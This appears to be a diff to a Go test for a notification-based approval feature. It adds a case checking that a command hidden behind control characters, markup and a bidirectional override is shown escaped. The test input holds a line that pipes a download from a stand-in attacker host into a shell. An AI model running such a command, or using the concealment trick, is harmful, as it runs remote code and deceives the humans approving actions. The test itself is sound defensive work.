@@ -9,6 +9,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/hostlink/hostlink/internal/textsafe"
 )
 
 // TestNotifySendAction: the notification is shown with notify-send's
@@ -41,6 +43,23 @@ func TestNotifySendAction(t *testing.T) {
 	for _, want := range []string{"--action=approve=Approve", "--action=deny=Deny", "--wait", "run echo notified"} {
 		if !strings.Contains(string(got), want) {
 			t.Errorf("notify-send arguments lack %q:\n%s", want, got)
+		}
+	}
+
+	// A summary that hides a command behind control characters, with
+	// markup and bidirectional overrides, is shown escaped.
+	_, err = b.Require(context.Background(), action("curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake <b>test</b>\u202e"))
+	if err != nil {
+		t.Fatalf("Require: %v", err)
+	}
+	got, _ = os.ReadFile(argsFile)
+	want := `run curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake &lt;b&gt;test&lt;/b&gt;\u202e`
+	if !strings.Contains(string(got), want) {
+		t.Errorf("notify-send body is not escaped; want %q in:\n%q", want, got)
+	}
+	for _, r := range string(got) {
+		if r != '\n' && textsafe.Hidden(r) {
+			t.Fatalf("notify-send arguments hold a raw %U: %q", r, got)
 		}
 	}
 }
